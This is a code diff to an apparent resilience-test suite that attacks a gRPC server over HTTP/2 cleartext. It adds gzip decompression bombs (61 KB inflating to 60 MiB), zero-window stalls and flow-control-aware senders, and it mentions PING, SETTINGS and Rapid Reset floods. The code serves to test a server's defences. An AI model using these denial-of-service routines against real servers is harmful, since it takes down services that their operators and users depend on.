@@ -1,5 +1,5 @@
 """Attacks on the gRPC face (h2c with prior knowledge on the tcp:// port)."""
-import select, socket, struct, time
+import select, socket, struct, time, zlib
 from common import *
 
 MiB = 1 << 20
@@ -11,7 +11,7 @@ class H2Reader:
     def __init__(self, s):
         self.s = s; self.buf = bytearray(); self.conn_win = 65535; self.init_win = 65535
         self.stream_win = {}; self.rst = {}; self.goaway = None; self.data = {}; self.eof = False
-        self.frames = {}
+        self.frames = {}; self.peer_settings = False
 
     def pump(self, timeout=0.0):
         r, _, _ = select.select([self.s], [], [], timeout)
@@ -41,6 +41,7 @@ class H2Reader:
                         delta = v - self.init_win; self.init_win = v
                         for k2 in self.stream_win: self.stream_win[k2] += delta
                 self.s.sendall(h2frame(H2_SETTINGS, 1, 0))
+                self.peer_settings = True
             elif typ == H2_WU:
                 inc = struct.unpack(">I", p)[0] & 0x7FFFFFFF
                 if sid == 0: self.conn_win += inc
@@ -56,6 +57,74 @@ class H2Reader:
 
     def win(self, sid):
         return min(self.conn_win, self.stream_win.setdefault(sid, self.init_win))
+
+def h2_connect_reading(srv, settings=()):
+    """An h2c connection whose H2Reader has seen the server's SETTINGS (its initial window
+    included, which h2_connect would read past), for clients that send within windows."""
+    s = h2_connect(srv.host, srv.port, settings=settings, read_server_settings=False)
+    rd = H2Reader(s)
+    t = time.monotonic()
+    while not rd.peer_settings and not rd.eof and time.monotonic() - t < 5:
+        rd.pump(0.1)
+    return s, rd
+
+def send_data_windowed(s, rd, sid, data, end_stream, deadline):
+    """Sends `data` on stream sid in DATA frames of at most 16 KiB (the default
+    SETTINGS_MAX_FRAME_SIZE), each only within the peer's stream and connection windows
+    (reading the peer's frames meanwhile). Returns the bytes sent (less than len(data) if the
+    deadline passed or the connection closed first)."""
+    off = 0
+    while off < len(data):
+        rd.pump(0)
+        if rd.eof or sid in rd.rst:
+            break
+        w = rd.win(sid)
+        if w <= 0:
+            if time.monotonic() > deadline:
+                break
+            rd.pump(0.01)
+            continue
+        n = min(16384, w, len(data) - off)
+        last = end_stream and off + n == len(data)
+        try:
+            s.sendall(h2frame(H2_DATA, 1 if last else 0, sid, data[off:off + n]))
+        except OSError:
+            rd.eof = True
+            break
+        rd.conn_win -= n; rd.stream_win[sid] -= n; off += n
+    return off
+
+def attack_grpc_gzip_window0(srv, dur=20):
+    """#1 with gzip: SETTINGS_INITIAL_WINDOW_SIZE=0 (the server can send no answer's DATA), 20
+    unary Gets whose request is a 61 KB gzip member inflating to 60 MiB. The bombs are larger
+    than the server's windows, so this client reads the server's frames (for its
+    WINDOW_UPDATEs) and sends within them; the answers stay unsendable, as in #1."""
+    bomb = pb_gzip_bomb(get_request("big"), 60 * MiB)
+    s, rd = h2_connect_reading(srv, settings=[(4, 0), (2, 0)])
+    t0 = time.monotonic()
+    sent = 0
+    for i in range(20):
+        sid = 1 + 2 * i
+        try:
+            s.sendall(h2frame(H2_HEADERS, 4, sid, grpc_headers(GET, extra=[("grpc-encoding", "gzip")])))
+        except OSError:
+            rd.eof = True
+            break
+        msg = grpc_msg(bomb, compressed=True)
+        if send_data_windowed(s, rd, sid, msg, True, t0 + 10) == len(msg):
+            sent += 1
+        if rd.eof:
+            break
+    cut = None
+    while time.monotonic() - t0 < dur:
+        rd.pump(0.1)
+        if rd.eof and cut is None:
+            cut = time.monotonic() - t0
+    s.close()
+    note = "sent %d/20 x %d B gzip bombs (60 MiB each inflated) in windows; answers unsendable (window 0); RST %d streams %s; GOAWAY %s; cut %s" % (
+        sent, len(bomb), len(rd.rst), sorted(set(rd.rst.values())), rd.goaway[:2] if rd.goaway else None,
+        "at %.1f s" % cut if cut else "no (within %d s)" % dur)
+    return {"notes": note, "t0": t0}
 
 def attack_grpc_zstd_never_read(srv, dur=20):
     """#1: SETTINGS_INITIAL_WINDOW_SIZE=0, never reads, 20 unary Gets whose request is a 1.9 KB
@@ -143,17 +212,28 @@ def attack_grpc_announce_only(srv, dur=40):
     """#2b: 20 streams each announce a 60 MiB message, send 1 byte of it, go quiet."""
     return _partial_streams(srv, 20, 1, 60 * MiB, PUT, dur, 5)
 
-def attack_grpc_stream_bombs(srv, dur=20):
+def attack_grpc_stream_bombs(srv, dur=20, encoding="zstd"):
     """#3: one client-streaming Apply call carrying 20 messages, each a 1.9 KB zstd frame that
-    inflates to a 60 MiB Mutation (a small put + an unknown field)."""
+    inflates to a 60 MiB Mutation (a small put + an unknown field). encoding="gzip": each a
+    61 KB gzip member, sent within the server's windows."""
     mut = pb_bytes(1, put_request("bombkey", "x"))
-    bomb = pb_bomb(mut, 60 * MiB)
-    s = h2_connect(srv.host, srv.port)
-    rd = H2Reader(s)
+    bomb = pb_bomb(mut, 60 * MiB) if encoding == "zstd" else pb_gzip_bomb(mut, 60 * MiB)
+    if encoding == "zstd":
+        s = h2_connect(srv.host, srv.port)
+        rd = H2Reader(s)
+    else:
+        s, rd = h2_connect_reading(srv)
     t0 = time.monotonic()
-    s.sendall(h2frame(H2_HEADERS, 4, 1, grpc_headers(APPLY, extra=[("grpc-encoding", "zstd")])))
+    s.sendall(h2frame(H2_HEADERS, 4, 1, grpc_headers(APPLY, extra=[("grpc-encoding", encoding)])))
+    n_sent = 0
     for i in range(20):
-        s.sendall(h2frame(H2_DATA, 1 if i == 19 else 0, 1, grpc_msg(bomb, compressed=True)))
+        if encoding == "zstd":
+            s.sendall(h2frame(H2_DATA, 1 if i == 19 else 0, 1, grpc_msg(bomb, compressed=True)))
+        else:
+            msg = grpc_msg(bomb, compressed=True)
+            if send_data_windowed(s, rd, 1, msg, i == 19, t0 + dur / 2) < len(msg):
+                break
+        n_sent += 1
     done = None
     while time.monotonic() - t0 < dur:
         rd.pump(0.1)
@@ -165,12 +245,25 @@ def attack_grpc_stream_bombs(srv, dur=20):
     summ = "no DATA (trailers-only: an error status)"
     if len(d) >= 5:
         body = d[5:]
-        puts = body[1] if body[:1] == b"\x08" else None
-        summ = "ApplySummary puts=%s" % puts
+        if d[0] == 1:
+            try:
+                body = zlib.decompress(body, 31)
+            except zlib.error:
+                body = None
+        if body is None:
+            summ = "a compressed (not gzip) ApplySummary of %d B" % (len(d) - 5)
+        else:
+            puts = body[1] if body[:1] == b"\x08" else None
+            summ = "ApplySummary puts=%s" % puts
     s.close()
-    note = "20 x %d B bombs (60 MiB each) on one Apply stream; answer after %s: %s; RST=%s frames=%s" % (
-        len(bomb), "%.1f s" % done if done else "-", summ, rd.rst.get(1), rd.frames)
+    note = "%s x %d B %s (60 MiB each) on one Apply stream; answer after %s: %s; RST=%s frames=%s" % (
+        20 if encoding == "zstd" else "%d/20" % n_sent, len(bomb), "bombs" if encoding == "zstd" else "%s bombs" % encoding,
+        "%.1f s" % done if done else "-", summ, rd.rst.get(1), rd.frames)
     return {"notes": note, "t0": t0}
+
+def attack_grpc_gzip_stream_bombs(srv, dur=20):
+    """#3 with gzip: one Apply stream, 20 messages each a 61 KB gzip member inflating to 60 MiB."""
+    return attack_grpc_stream_bombs(srv, dur, encoding="gzip")
 
 def attack_h2_floods(srv, dur=15):
     """Extras: PING flood (reading), SETTINGS flood (never reading the ACKs), Rapid Reset
